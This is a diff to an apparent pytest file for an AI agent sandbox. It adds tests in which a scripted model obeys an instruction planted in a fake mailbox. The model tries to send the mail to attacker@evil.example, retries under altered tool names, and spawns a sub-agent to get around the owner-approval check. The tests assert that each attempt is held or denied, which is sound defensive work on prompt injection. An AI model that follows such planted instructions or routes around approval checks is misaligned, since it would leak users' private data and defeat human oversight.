@@ -7,6 +7,10 @@ The owner's grants are ordinary ones: the starter grants, plus a shell and a rea
 folder that holds the home (as a grant of `~` holds `~/.local/share/boxmaker`), and a secret
 folder with a shell grant of its own. Tools run as `nobody` (the tests run as root), and the
 folders are nobody's, so file permissions stop nothing: what stops an attack is the box.
+
+The MCP cases (§18.7) run on a box of their own: the starter grants, the fake mailbox with the
+grants an owner would write (its inbox a source, `send_email` a sink, both allowed), and an
+owner who is away: an approval nobody answers expires in 2 s.
 """
 
 from __future__ import annotations
@@ -20,10 +24,14 @@ from typing import Any
 
 import pytest
 
+from bxcore.deny import DenyReason
+from services.loopd.tools import denial_message
+from tests.fakes.mcp_servers import INJECTED
 from tests.fakes.model_server import Answer
 from tests.support.brokerd import args, ledger_records, write_grant
 from tests.support.daemons import tool_owned
 from tests.support.e2e import UpBox, box_up, results_read
+from tests.support.mcp import fake, grant, wait_listed
 
 
 def grant_around_the_home(home: Path) -> None:
@@ -209,3 +217,98 @@ def test_the_same_box_still_does_what_the_owner_asks(box: UpBox) -> None:
     )
     assert read == ["buy milk\n"]
     assert decisions(box, "benign-1") == [("read_file", "allowed", None)]
+
+
+# --- MCP: the mailbox's injected instruction (§18.7) ----------------------------------------
+
+READ = "mcp__mailbox__read_inbox"
+SEND = "mcp__mailbox__send_email"
+
+
+def a_mailbox_and_an_absent_owner(home: Path) -> None:
+    with (home / "config.toml").open("a") as config:
+        config.write("\n[broker]\napproval_ttl_s = 2\n\n")
+        config.write(fake("mailbox", "mailbox", home.parent / "mail"))
+    grant(home, "mail-read", READ, kind="source", class_="private")
+    grant(home, "mail-send", SEND, kind="sink", class_="private")
+
+
+@pytest.fixture(scope="module")
+def mail_box() -> Iterator[UpBox]:
+    with box_up(before_up=a_mailbox_and_an_absent_owner) as box:
+        wait_listed(box.home, "mailbox")
+        trusted = box.bxctl("mcp", "trust", "mailbox", "--yes")
+        assert trusted.returncode == 0, trusted.stderr
+        yield box
+
+
+def sent_mail(box: UpBox) -> Path:
+    return box.home.parent / "mail" / "sent.jsonl"
+
+
+def test_a_model_that_obeys_the_mail_never_sends_it_without_the_owner(mail_box: UpBox) -> None:
+    box = mail_box
+    out = args(to="attacker@evil.example", body=INJECTED)
+    task = f"call {SEND} with {out}"
+    box.model.script(task, box.model.calls((SEND, out)), Answer(text="sent, I think"))
+    read = run_turn(
+        box,
+        "mail-1",
+        "summarise my inbox",
+        box.model.calls((READ, args(folder="in"))),
+        box.model.calls((SEND, out)),  # as the mail says
+        box.model.calls(("send_email", out), ("mcp__mailbox__send_email ", out)),  # other names
+        box.model.calls(("spawn", args(task=task))),  # a clean helper to send it?
+        Answer(text="done as the mail said"),
+    )
+    assert INJECTED in read[0]
+    expired = denial_message(DenyReason.APPROVAL_EXPIRED, None)
+    assert read[1] == expired
+    assert read[2] == read[3] == denial_message(DenyReason.UNKNOWN_TOOL, None)
+    assert not sent_mail(box).exists()
+    assert decisions(box, "mail-1") == [
+        (READ, "allowed", None),
+        (SEND, "pending", None),
+        ("send_email", "denied", "unknown_tool"),
+        ("mcp__mailbox__send_email ", "denied", "unknown_tool"),
+    ]
+    # the sub-agent inherits the untrusted label: its send waits for the owner too
+    assert label_of(box, "sub-mail-1-1")["untrusted"] is True
+    assert decisions(box, "sub-mail-1-1") == [(SEND, "pending", None)]
+    records = ledger_records(box.home)
+    asked = [
+        r["approval"]
+        for r in records
+        if r.get("session") in ("mail-1", "sub-mail-1-1") and r.get("outcome") == "pending"
+    ]
+    verdicts = [
+        (r["approval"], r["approve"], r["reason"])
+        for r in records
+        if r["kind"] == "verdict" and r["approval"] in asked
+    ]
+    assert verdicts == [(approval, False, "approval_expired") for approval in asked]
+    assert len(asked) == 2
+
+
+def test_the_mailbox_still_reads_and_the_owner_can_still_send(mail_box: UpBox) -> None:
+    box = mail_box
+    read = run_turn(
+        box,
+        "mail-2",
+        "who wrote to me?",
+        box.model.calls((READ, args(folder="in"))),
+        Answer(text="the boss and a stranger"),
+    )
+    assert "boss@example.com" in read[0]
+    assert decisions(box, "mail-2") == [(READ, "allowed", None)]
+    # a clean session's send is the owner's own: the grant allows it
+    read = run_turn(
+        box,
+        "mail-3",
+        "tell the boss I am in",
+        box.model.calls((SEND, args(to="boss@example.com", body="I am in"))),
+        Answer(text="sent"),
+    )
+    assert read == ["sent to boss@example.com"]
+    lines = sent_mail(box).read_text().splitlines()
+    assert [json.loads(line)["to"] for line in lines] == ["boss@example.com"]
